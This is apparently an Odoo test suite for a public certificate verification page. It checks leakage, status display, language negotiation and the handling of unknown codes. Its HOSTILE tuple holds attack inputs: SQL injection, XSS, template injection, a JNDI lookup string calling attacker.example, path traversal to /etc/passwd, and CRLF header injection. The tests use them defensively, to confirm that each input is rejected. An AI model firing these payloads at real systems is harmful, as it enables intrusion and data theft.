import random
import string
from datetime import timedelta
from urllib.parse import quote

from odoo.fields import Date
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from .common import CertificationCase

HOSTILE = (
    "'; DROP TABLE certification_certificate; --",
    "' OR '1'='1",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "..%2f..%2fweb/login",
    "%00",
    "a\x00b",
    "\r\nSet-Cookie: stolen=1",
    "%",
    "_" * 22,
    "%" * 22,
    "-" * 22,
    "ａ" * 22,
    "é" * 22,
    "A" * 4000,
    "1",
    "0",
    "None",
    "False",
)


@tagged("post_install", "-at_install")
class TestVerification(CertificationCase, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.certificate = cls._certificate("O1-SECRET-1", name="H-4711")

    def _page(self, code):
        return self.url_open(f"/certificate/{quote(code, safe='%')}", allow_redirects=False)

    def test_a_stranger_sees_validity_and_nothing_else(self):
        response = self._page(self.certificate.code)
        self.assertEqual(response.status_code, 200)
        self.assertIn('data-status="valid"', response.text)
        self.assertIn("H-4711", response.text)
        for secret in ("SECRET", "Oven", self.body.name, self.scheme.name, self.oem.name, "odoo"):
            self.assertNotIn(secret, response.text)
        self.assertNotIn("Set-Cookie", response.headers)
        self.assertEqual(response.headers["Cache-Control"], "no-store")
        self.assertIn("default-src 'none'", response.headers["Content-Security-Policy"])
        self.assertNotIn("<script", response.text)

    def test_the_page_tells_every_status(self):
        today = Date.today()
        for status, change in (
            ("expired", {"date_from": "2020-01-01", "date_to": today - timedelta(days=1)}),
            ("future", {"date_from": today + timedelta(days=1), "date_to": False}),
        ):
            certificate = self._certificate("X", date_issue="2020-01-01", **change)
            self.assertIn(f'data-status="{status}"', self._page(certificate.code).text)
        self.certificate.action_suspend("Audit: confidential finding")
        page = self._page(self.certificate.code).text
        self.assertIn('data-status="suspended"', page)
        self.assertNotIn("confidential", page)
        self.certificate.action_withdraw("False")
        self.assertIn('data-status="withdrawn"', self._page(self.certificate.code).text)

    def test_the_page_speaks_the_visitors_language(self):
        self.env["res.lang"]._activate_lang("fr_FR")
        for asked, spoken in (
            ("fr-CA,en;q=0.5", "fr"),
            ("fr-FR", "fr"),
            ("xx,fr;q=0.3", "fr"),
            ("xx", "en"),
            ("", "en"),
        ):
            page = self.url_open(
                f"/certificate/{self.certificate.code}", headers={"Accept-Language": asked}
            )
            self.assertIn(f'<html lang="{spoken}"', page.text, asked)

    def test_what_the_body_had_no_right_to_issue_is_not_valid(self):
        self.body.accreditation_ids.date_from = Date.today() + timedelta(days=1)
        page = self._page(self.certificate.code).text
        self.assertIn('data-status="unfounded"', page)
        self.assertIn("This certificate is not valid<", page)

    def test_a_draft_is_nobodys_business(self):
        draft = self._certificate("X", validate=False)
        self.assertEqual(self._page(draft.code).status_code, 404)

    @mute_logger("odoo.http")
    def test_hostile_codes_all_get_the_same_answer(self):
        unknown = self._page("A" * 22)
        self.assertEqual(unknown.status_code, 404)
        self.assertIn("No such certificate", unknown.text)
        for code in HOSTILE:
            with self.subTest(code=code):
                response = self._page(code)
                self.assertEqual(response.status_code, 404)
                if not code.startswith("..") and "\n" not in code:
                    # those never reach us: Werkzeug resolves dots, and no address has line ends
                    self.assertEqual(response.text, unknown.text)
                self.assertNotIn("stolen", str(response.headers))
        self.assertTrue(self.certificate.exists())

    def test_random_codes_find_nothing(self):
        dice = random.Random(7)
        Certificate = self.env["certification.certificate"]
        for _turn in range(500):
            length = dice.choice((1, 21, 22, 22, 22, 23, 80))
            code = "".join(dice.choice(string.printable + "éя\x00") for _ in range(length))
            self.assertFalse(Certificate._find_by_code(code), repr(code))
        for thing in (
            None,
            False,
            22,
            [],
            {"a": 1},
            b"x" * 22,
            self.certificate.code[:-1],
            self.certificate.code.swapcase(),
        ):
            self.assertFalse(Certificate._find_by_code(thing), repr(thing))
        self.assertEqual(Certificate._find_by_code(self.certificate.code), self.certificate)

    def test_what_is_no_code_costs_no_query(self):
        with self.assertQueryCount(0):
            for code in HOSTILE:
                if len(code) != 22:
                    self.env["certification.certificate"]._find_by_code(code)

    def test_only_reading(self):
        response = self.opener.post(
            f"{self.base_url()}/certificate/{self.certificate.code}", data={"x": 1}, timeout=30
        )
        self.assertEqual(response.status_code, 405)

    def test_codes_are_secret_and_never_copied(self):
        copy = self.certificate.copy({"name": "H-4712"})
        self.assertNotEqual(copy.code, self.certificate.code)
        self.assertRegex(copy.code, r"^[A-Za-z0-9_-]{22}$")
        self.certificate.action_draft()
        code = self.certificate.code
        self.certificate.action_validate()
        self.assertEqual(self.certificate.code, code, "printed codes stay good")

    def test_the_paper_goes_by_the_date_and_not_by_the_nightly_job(self):
        ended = self._certificate(
            "X", date_issue="2020-01-01", date_to=Date.today() - timedelta(days=1)
        )
        content, _kind = self.env["ir.actions.report"]._render_qweb_html(
            "equipment_certification.report_certificate", ended.ids
        )
        self.assertEqual(ended.state, "valid")
        self.assertIn("Expired", content.decode())
        self.assertNotIn("In force", content.decode())

    def test_the_printed_certificate_leads_to_its_page(self):
        content, _kind = self.env["ir.actions.report"]._render_qweb_html(
            "equipment_certification.report_certificate", self.certificate.ids
        )
        text = content.decode()
        self.assertIn("data:image/png;base64,", text)
        self.assertIn("O1-SECRET-1", text)
        self.assertNotIn("In force", text)
        self.assertEqual(
            self.certificate.verification_url,
            f"{self.certificate.get_base_url()}/certificate/{self.certificate.code}",
        )
